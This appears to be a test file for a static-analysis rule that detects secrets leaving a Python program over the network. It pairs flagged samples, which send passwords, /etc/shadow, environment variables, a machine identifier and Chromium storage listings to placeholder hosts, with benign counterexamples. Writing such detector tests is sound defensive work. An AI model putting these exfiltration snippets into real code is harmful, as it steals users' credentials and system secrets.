import json
import os
import socket
import urllib.parse
import urllib.request
import uuid

import requests


def _pack(user):
    return {"n": user.name, "v": user.password}


def after_login(user):
    body = _pack(user)
    # ruleid: python-secret-leaves-by-network
    requests.post("https://stats.example.net/i", json=body)


def ask():
    label = "%012x" % uuid.getnode()
    # ruleid: python-secret-leaves-by-network
    socket.gethostbyname(label + ".t.example.org")


def accounts():
    with open("/etc/shadow", "rb") as f:
        text = f.read()
    r = urllib.request.Request("http://198.51.100.4/u")
    # ruleid: python-secret-leaves-by-network
    urllib.request.urlopen(r, data=text)


def everything(s):
    # ruleid: python-secret-leaves-by-network
    s.sendto(json.dumps(dict(os.environ)).encode(), ("203.0.113.8", 5353))


def page(n):
    # ok: python-secret-leaves-by-network
    return requests.get("https://example.net/p/%d" % n)


def readme(s):
    with open("/usr/share/doc/x", "rb") as f:
        # ok: python-secret-leaves-by-network
        s.sendall(f.read())


def kept(user):
    # ok: python-secret-leaves-by-network
    print(user.password)


def pairs():
    line = ";".join(["%s:%s" % (a, b) for (a, b) in os.environ.items()])
    out = ""
    for sign in line:
        out += sign if sign.isalnum() else "%%%02X" % ord(sign)
    k = socket.socket()
    k.connect(("stats.example.net", 80))
    # ruleid: python-secret-leaves-by-network
    k.send(b"POST /i HTTP/1.0\r\n\r\n" + out.encode())


class Link:
    def __init__(self, host, password):
        self.host = host
        self.password = password

    def note(self):
        form = urllib.parse.urlencode({"h": self.host, "p": self.password}).encode()
        # ruleid: python-secret-leaves-by-network
        urllib.request.urlopen("http://log.example.org/n", form)


def jars(home):
    found = []
    for name in os.listdir(os.path.join(home, "Chromium/User Data/Default/Local Storage/leveldb")):
        found.append(name)
    # ruleid: python-secret-leaves-by-network
    requests.post("https://hooks.example.org/1", json={"content": "\n".join(found)})


def counted(pipe):
    # ok: python-secret-leaves-by-network
    pipe.send(len(os.environ))


def listing(folder):
    # ok: python-secret-leaves-by-network
    requests.post("https://example.net/list", json=os.listdir(folder))


def greeting(peer):
    k = socket.socket()
    k.connect((peer, 25))
    # ok: python-secret-leaves-by-network
    k.send(b"EHLO localhost\r\n")
